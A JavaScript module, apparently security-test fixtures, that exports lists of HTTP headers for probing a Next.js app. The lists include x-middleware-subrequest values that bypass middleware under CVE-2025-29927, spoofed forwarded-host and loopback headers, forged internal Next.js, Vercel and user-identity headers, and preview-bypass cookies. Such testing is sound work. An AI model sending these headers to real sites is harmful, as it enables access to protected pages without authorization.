// What is sent beside a path: headers by which versions of Next.js were told, by somebody outside, to leave out the
// middleware (CVE-2025-29927), to answer another page or another kind of data, or to believe that it was a proxy that asks.

const five = (name) => Array(5).fill(name).join(':')
const skip = ['middleware', 'src/middleware', 'pages/_middleware', 'pages/admin/_middleware', 'proxy', five('middleware'), five('src/middleware'), five('proxy'), five('src/proxy')]
const tree = encodeURIComponent(JSON.stringify(['', { children: ['admin', { children: ['board', { children: ['__PAGE__', {}] }] }] }, null, null, true]))

/** Skips the middleware of a Next.js before 12.3.5, 13.5.9, 14.2.25 and 15.2.3. */
export const skipping = [
  ...skip.map((value) => [`x-middleware-subrequest: ${value}`]),
  ['X-Middleware-Subrequest: middleware', `X-MIDDLEWARE-SUBREQUEST: ${five('middleware')}`],
  [`x_middleware_subrequest: ${five('middleware')}`], [`x.middleware.subrequest: ${five('middleware')}`],
  [`x-middleware-subrequest: ${five('middleware')}`, 'x-middleware-subrequest-id: 0'],
  ['Connection: close, x-middleware-subrequest', `x-middleware-subrequest: ${five('middleware')}`],
]

/** Asks for components instead of a page. */
export const components = [
  ['RSC: 1'], ['RSC: 1', 'Next-Router-Prefetch: 1'], ['RSC: 1', 'Next-Router-Prefetch: 2'], ['RSC: 1', 'Next-Url: /about'],
  ['RSC: 1', `Next-Router-State-Tree: ${tree}`], ['RSC: 1', `Next-Router-State-Tree: ${tree}`, 'Next-Router-Prefetch: 1', 'Next-Url: /open'],
  ...['/_tree', '/_full', '/_index', '/admin/paper/__PAGE__'].map((segment) => ['RSC: 1', 'Next-Router-Prefetch: 1', `Next-Router-Segment-Prefetch: ${segment}`]),
]

/** Whatever else a header may say; those that name a page name the one given. @param {string} path */
export const others = (path) => [
  [], ['Accept: text/html', 'Sec-Fetch-Mode: navigate', 'Sec-Fetch-Site: none'], ['Accept: text/x-component'], ['Purpose: prefetch', 'Sec-Purpose: prefetch'], ['Range: bytes=0-'],
  ['x-nextjs-data: 1'], ['x-middleware-prefetch: 1', 'x-nextjs-data: 1'], ['x-middleware-invoke: 1'], ['x-middleware-next: 1'], ['x-middleware-skip: 1'],
  [`x-middleware-rewrite: ${path}`], [`x-nextjs-rewrite: ${path}`], [`x-nextjs-matched-path: ${path}`], [`x-nextjs-redirect: ${path}`],
  ['x-middleware-override-headers: x-signet-user', 'x-middleware-request-x-signet-user: 7'], ['x-middleware-set-cookie: authjs.session-token=x'],
  [`x-matched-path: ${path}`], [`x-matched-path: ${path}`, 'x-now-route-matches: 1=private&nxtPid=private'], ['x-now-route-matches: nxtPid=private'],
  [`x-invoke-path: ${path}`, 'x-invoke-status: 200', 'x-invoke-query: %7B%7D'], [`x-invoke-output: ${path}`], ['x-invoke-status: 200'], [`x-next-page-path: ${path}`],
  [`x-rewrite-url: ${path}`], [`x-original-url: ${path}`, `x-original-uri: ${path}`], [`x-forwarded-uri: ${path}`, `x-forwarded-path: ${path}`], ['x-forwarded-prefix: /admin'], [`x-proxy-url: ${path}`, `request-uri: ${path}`],
  ['x-http-method-override: GET', 'x-method-override: GET'], ['x-forwarded-host: evil.example', 'x-forwarded-proto: https'], ['forwarded: for=127.0.0.1;host=evil.example'], ['x-forwarded-for: 127.0.0.1', 'x-real-ip: 127.0.0.1'], ['Host: 127.0.0.1'],
  ['next-resume: 1', 'x-nextjs-postponed: 1'], ['x-prerender-revalidate: 1'], ['x-prerender-bypass: 1', 'Cookie: __prerender_bypass=1; __next_preview_data=1'], ['x-next-revalidated-tags: a', 'x-next-revalidate-tag-token: 1'], ['x-vercel-protection-bypass: 1', 'x-vercel-id: 1'],
  ['x-signet-user: 7'], ['X_Signet_User: 7', 'x.signet.user: 7'], ['Connection: close, x-signet-user', 'x-signet-user: 7'], ['Authorization: Bearer x'], ['Cookie: authjs.session-token=x; NEXT_LOCALE=ko'], ['x-action-forwarded: 1', 'next-action: 00'], [`next-url: ${path}`],
  ['Connection: Upgrade, close', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='], ['Connection: Upgrade, close, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA'],
]

/** Calls a server action. @param {string} id */
export const asking = (id) => [`Next-Action: ${id}`, 'Content-Type: text/plain;charset=UTF-8', 'Accept: text/x-component']
